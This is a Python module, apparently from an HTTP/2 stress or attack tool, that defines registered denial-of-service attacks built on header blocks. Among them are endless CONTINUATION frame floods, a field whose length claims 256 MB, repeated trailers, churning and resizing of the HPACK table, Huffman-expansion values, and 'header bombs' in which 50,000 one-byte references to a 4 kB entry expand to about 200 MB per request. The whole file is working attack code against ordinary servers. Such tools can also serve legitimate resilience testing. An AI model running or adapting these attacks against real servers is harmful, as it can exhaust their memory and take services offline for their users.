"""Attacks with header blocks: endless, huge, or small ones that HPACK expands."""

import functools

from frames import (CONTINUATION, END_HEADERS, END_STREAM, HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE, LARGEST, SESSION,
                    frame, headers, kept, literal, never, request, settings, table_size)
from table import attack, streams

_JUST_TAKEN = 60_000  # bytes of a header block that a limit of 64 KiB still lets through
_NEWEST = b"\xbe"  # the dynamic table's newest entry (62), as one byte


def _block(stream, block, flags=0):
    """A whole header block, in as many frames as it needs."""
    parts = [block[i:i + LARGEST] for i in range(0, len(block), LARGEST)]
    out = [headers(stream, parts[0], flags | (END_HEADERS if len(parts) == 1 else 0))]
    for i, part in enumerate(parts[1:], 2):
        out.append(frame(CONTINUATION, END_HEADERS if i == len(parts) else 0, stream, part))
    return b"".join(out)


def _never_ends(connection, piece):
    connection.greet()
    connection.send(headers(1, request(SESSION, connection.is_tls), flags=0))
    connection.flood(frame(CONTINUATION, 0, 1, piece))


@attack("continuation-small", "a header block without end, in frames of 60 bytes")
def _(connection):
    _never_ends(connection, literal(b"x-attack-small", b"v" * 43))


@attack("continuation-large", "a header block without end, in frames of 16 KiB")
def _(connection):
    _never_ends(connection, literal(b"x-attack-large", b"v" * 16_000))


@attack("continuation-empty", "a header block without end, in frames without a byte")
def _(connection):
    _never_ends(connection, b"")


@attack("continuation-one-field", "one field without end: its length says 256 MB")
def _(connection):
    connection.greet()
    start = request(SESSION, connection.is_tls) + b"\x00\x01x" + b"\x7f\x81\xff\xff\x7f"
    connection.send(headers(1, start, flags=0))
    connection.flood(frame(CONTINUATION, 0, 1, b"v" * LARGEST))


@attack("trailers", "trailers again and again on an open stream, which never end it")
def _(connection):
    connection.greet()
    connection.send(headers(1, request(SESSION, connection.is_tls)))
    connection.flood(headers(1, literal(b"x-trailer", b"v" * 100)))


@functools.lru_cache(maxsize=None)
def _huge_list(is_tls):
    return request(SESSION, is_tls, b"".join(literal(b"x-%04d" % i, b"v" * 1000) for i in range(_JUST_TAKEN // 1010)))


def _huge(stream, is_tls):
    return _block(stream, _huge_list(is_tls), END_STREAM)


@attack("header-list", "requests with 60 kB of fields each")
def _(connection):
    connection.greet()
    connection.stream(streams(_huge, connection.is_tls))


def _held(stream, is_tls):
    return _block(stream, request(SESSION, is_tls, literal(b"x-held", b"v" * 7_500)))


@attack("header-list-held", "sessions with 7.5 kB of fields each, as gRPC takes them, that stay open; no SETTINGS acknowledged")
def _(connection):
    connection.greet(is_acknowledging=False)
    connection.stream(streams(_held, connection.is_tls))


def _resized(stream, is_tls):
    return _block(stream, table_size(0) + table_size(4096) + request(SESSION, is_tls, kept(b"x", b"v" * 100)), END_STREAM)


@attack("hpack-table-size", "the HPACK table emptied and filled in each request; its size changed by SETTINGS as well")
def _(connection):
    connection.greet()
    for piece in streams(_resized, connection.is_tls):
        connection.stream([settings((HEADER_TABLE_SIZE, 0)) + settings((HEADER_TABLE_SIZE, 2**32 - 1)) + piece])


@functools.lru_cache(maxsize=None)
def _many_entries(is_tls):
    return request(SESSION, is_tls, b"".join(kept(b"x-%03d" % i, b"%d" % i) for i in range(200)))


def _entries(stream, is_tls):
    return _block(stream, _many_entries(is_tls), END_STREAM)


@attack("hpack-entries", "200 new entries for the HPACK table in each request")
def _(connection):
    connection.greet()
    connection.stream(streams(_entries, connection.is_tls))


def _giant(stream, is_tls):
    return _block(stream, request(SESSION, is_tls, never(b"x-giant", b"v" * _JUST_TAKEN)), END_STREAM)


@attack("hpack-never-indexed", "one value of 60 kB in each request, never to be indexed")
def _(connection):
    connection.greet()
    connection.stream(streams(_giant, connection.is_tls))


@functools.lru_cache(maxsize=None)
def _huffman_list(is_tls):
    """Five zero bits are a 0 (RFC 7541, appendix B), so five bytes become eight."""
    return request(SESSION, is_tls, literal(b"x-huffman", bytes(_JUST_TAKEN // 5 * 5), is_huffman=True))


def _huffman(stream, is_tls):
    return _block(stream, _huffman_list(is_tls), END_STREAM)


@attack("hpack-huffman", "values that Huffman's code makes larger, 60 kB before and 96 kB after")
def _(connection):
    connection.greet()
    connection.stream(streams(_huffman, connection.is_tls))


def _bomb(stream, is_tls):
    return _block(stream, request(SESSION, is_tls) + _NEWEST * 50_000, END_STREAM)


@attack("header-bomb", "50,000 references of one byte to an entry of 4 kB in each request: 200 MB of fields")
def _(connection):
    connection.greet()
    connection.send(headers(1, request(SESSION, connection.is_tls, kept(b"x-bomb", b"v" * 3_900))))
    connection.stream(streams(_bomb, connection.is_tls, first=1))


def _small_bomb(stream, is_tls):
    return headers(stream, request(SESSION, is_tls) + _NEWEST * 1_000)


@attack("header-bomb-held", "sessions with 1,000 references to an entry of 4 kB that stay open; replies are not let through")
def _(connection):
    connection.greet((INITIAL_WINDOW_SIZE, 0), is_acknowledging=False)
    connection.send(headers(1, request(SESSION, connection.is_tls, kept(b"x-bomb", b"v" * 3_900))))
    connection.stream(streams(_small_bomb, connection.is_tls, first=1))
